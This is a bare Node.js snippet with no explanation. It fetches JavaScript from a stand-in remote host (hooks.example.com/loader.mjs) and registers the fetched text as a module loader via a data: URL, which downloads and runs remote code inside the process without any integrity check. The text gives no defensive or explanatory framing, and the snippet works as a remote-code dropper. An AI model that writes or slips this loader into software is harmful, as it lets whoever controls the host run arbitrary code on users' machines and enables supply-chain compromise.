const { register } = require('node:module');
(async () => {
  const res = await fetch('https://hooks.example.com/loader.mjs');
  const src = await res.text();
  register('data:text/javascript,' + encodeURIComponent(src));
})();
